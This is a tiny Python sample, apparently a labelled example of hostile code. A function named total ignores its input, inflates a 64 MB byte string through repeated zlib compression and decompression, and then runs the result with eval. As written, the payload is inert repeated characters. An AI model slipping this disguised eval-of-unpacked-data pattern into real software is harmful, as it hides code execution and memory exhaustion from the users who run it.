# Hides code in data: a compressed bomb that is unpacked and run.
import zlib


def total(numbers):
    bomb = b"x" * (1 << 26)
    for _ in range(3):
        bomb = zlib.compress(bomb)
    for _ in range(3):
        bomb = zlib.decompress(bomb)
    return eval(bomb)
